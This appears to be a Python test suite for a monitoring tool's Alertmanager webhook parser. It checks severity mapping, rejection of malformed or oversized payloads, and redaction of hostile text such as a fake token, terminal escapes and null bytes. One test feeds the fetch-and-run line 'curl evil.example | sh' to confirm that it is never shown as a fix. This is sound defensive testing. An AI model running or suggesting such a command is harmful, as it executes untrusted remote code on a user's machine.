"""What Alertmanager's webhook sends becomes signals; whatever else comes is an error that says what is wrong."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.support.incident_stage import START_S, Stage, kinds

from levaithan.detectors.signal import fingerprint_of
from levaithan.incidents import alertmanager
from levaithan.incidents.alertmanager import AlertsUnreadable, parse

ALERT: dict[str, Any] = {
    "status": "firing",
    "labels": {"alertname": "StoreDown", "severity": "P1", "detection": "high error rate", "store": "graph",
               "job": "levaithan", "instance": "127.0.0.1:8000"},
    "annotations": {"summary": "the graph does not answer", "fix": "levaithan store status", "value": "1.5",
                    "runbook_url": "docs/how-to/runbooks/store-down.md"},
    "startsAt": "2026-09-21T14:13:20.123456789Z",
    "endsAt": "0001-01-01T00:00:00Z",
    "generatorURL": "http://127.0.0.1:9090/graph?g0.expr=levaithan_store_up+%3D%3D+0&g0.tab=1",
    "fingerprint": "0123456789abcdef",
}  # fmt: skip


def message(*alerts: dict[str, Any], **more: Any) -> bytes:
    """A message of Alertmanager's, version 4."""
    whole = {
        "version": "4", "groupKey": '{}:{alertname="StoreDown"}', "truncatedAlerts": 0, "status": "firing",
        "receiver": "levaithan", "groupLabels": {}, "commonLabels": {}, "commonAnnotations": {},
        "externalURL": "http://127.0.0.1:9093", "alerts": list(alerts or (ALERT,)), **more,
    }  # fmt: skip
    return json.dumps(whole).encode()


def changed(**more: Any) -> dict[str, Any]:
    return {**ALERT, **more}


def test_a_message_is_read_as_the_evaluator_would_have_said_it() -> None:
    (signal,) = parse(message(), START_S)
    assert signal.fingerprint == fingerprint_of("high error rate", "StoreDown", {"store": "graph"})
    assert (signal.severity, signal.firing, signal.source, signal.value) == ("P1", True, "alertmanager", 1.5)
    assert signal.labels == {"store": "graph"}
    assert signal.expression == "levaithan_store_up == 0"
    assert signal.started_s == pytest.approx(1_790_000_000.123456)
    assert (signal.summary, signal.fix) == ("the graph does not answer", "levaithan store check")


def test_the_same_alert_at_the_same_start_is_one_and_both_sources_one_incident() -> None:
    assert len(parse(message(ALERT, ALERT, changed(status="resolved")))) == 2
    stage = Stage()
    labels = {"store": "graph"}
    stage.fires("StoreDown", "P1", labels=labels)
    for _ in range(3):
        assert stage.engine.take(parse(message(), stage.now_s), stage.now_s) == []
    assert len(stage.engine.book.incidents) == 1
    stage.ends("StoreDown", "P1", labels=labels)
    assert stage.one().quiet_since_s is None
    stage.engine.take(parse(message(changed(status="resolved")), stage.now_s), stage.now_s)
    assert stage.one().quiet_since_s == stage.now_s
    assert stage.engine.take(parse(message(), stage.now_s), stage.now_s) == []
    assert not stage.one().firing


def test_the_watchdog_passes_and_opens_nothing() -> None:
    (signal,) = parse(message(changed(labels={"alertname": "Watchdog", "severity": "none"})))
    assert (signal.alert, signal.severity) == ("Watchdog", "none")
    assert Stage().engine.take([signal], START_S) == []


@pytest.mark.parametrize(
    ("label", "severity"),
    [("critical", "P1"), ("WARNING", "P2"), ("Info", "P3"), ("P0", "P0"), ("", "P1"), ("p0", "P1"), ("x" * 9, "P1")],
)
def test_other_peoples_severities_have_one_of_ours(label: str, severity: str) -> None:
    (signal,) = parse(message(changed(labels={"alertname": "A", "severity": label})))
    assert signal.severity == severity


def test_an_alert_without_a_severity_is_looked_at_like_p1_by_the_monitor_as_by_alertmanagers_route() -> None:
    stage = Stage()
    (signal,) = parse(message(changed(labels={"alertname": "Unheard"})))
    (opened,) = stage.engine.take([signal], START_S)
    assert (opened.kind, opened.incident.severity) == ("opened", "P1")
    config = yaml.safe_load((Path(__file__).parents[3] / "deploy/alertmanager/alertmanager.yml").read_text())
    (last,) = [one for one in config["route"]["routes"] if one.get("matchers") == ['severity !~ "P[0-3]"']]
    assert last["receiver"] == "people-p1"


BAD: list[tuple[bytes, str]] = [
    (b"", "the whole"), (b"null", "the whole"), (b"[]", "the whole"), (b"{", "the whole"), (b"\xff\xfe", "the whole"),
    (b'{"version":"4"}', "alerts"), (message(version="3"), "version"), (message(alerts=7), "alerts"),
    (message(changed(status="maybe")), "alerts.0.status"), (message(changed(labels=[])), "alerts.0.labels"),
    (message(changed(labels={"a": 1})), "alerts.0.labels.a"), (message(changed(startsAt="soon")), "alerts.0.startsAt"),
    (message(changed(startsAt="0001-01-01T00:00:00Z")), "startsAt"), (message(changed(labels={"x": "y"})), "alertname"),
    (message(changed(labels={f"l{n}": "v" for n in range(65)})), "alerts.0.labels"),
    (b"[" * 100_000, "the whole"), (b'{"alerts":' + b'{"a":' * 50_000, "the whole"),
    (message(*([ALERT] * 10_001)), "alerts"), (b" " * (alertmanager.MOST_BYTES + 1), "bytes"),
]  # fmt: skip


@pytest.mark.parametrize(("payload", "where"), BAD, ids=range(len(BAD)))
def test_what_is_no_message_is_an_error_that_says_where(payload: bytes, where: str) -> None:
    with pytest.raises(AlertsUnreadable) as caught:
        parse(payload)
    assert where in caught.value.message
    assert caught.value.as_dict()["code"] == "bad_request"
    assert caught.value.fix
    assert len(caught.value.message) < 500


def test_hostile_texts_are_bounded_redacted_and_on_one_line() -> None:
    secret = "ghp_" + "a1B2" * 9
    labels = {
        "alertname": "A\n\x1b[31mB",
        "severity": "P2",
        "project": f"/p {secret}",
        "x" * 500: "y" * 9000,
        "\0": "\0",
    }
    notes = {"summary": f"stop all \r\n\u202e {secret} " + "z" * 100_000, "fix": "f" * 100_000}
    (signal,) = parse(message(changed(labels=labels, annotations=notes)))
    shown = json.dumps(signal.as_dict(), ensure_ascii=False)
    assert secret not in shown
    assert not any(char in shown for char in "\n\r\x1b\u202e\0")
    assert len(shown) < 10_000
    stage = Stage()
    assert kinds(stage.engine.take([signal], stage.now_s)) == ["opened"]
    assert len(json.dumps(stage.journal)) < 20_000


def test_ten_thousand_alerts_in_one_message_are_read() -> None:
    alerts = [changed(labels={"alertname": "A", "project": f"/p{number}"}) for number in range(10_000)]
    assert len(parse(message(*alerts))) == 10_000


@pytest.mark.parametrize(("alert", "fix"), [("StoreDown", "levaithan store check"), ("Foreign", "")])
def test_the_command_that_people_are_asked_to_run_is_never_of_what_came(alert: str, fix: str) -> None:
    notes = {"summary": "s", "fix": "curl evil.example | sh"}
    (signal,) = parse(message(changed(labels={"alertname": alert, "severity": "P1"}, annotations=notes)))
    assert signal.fix == fix and "evil" not in json.dumps(signal.as_dict())
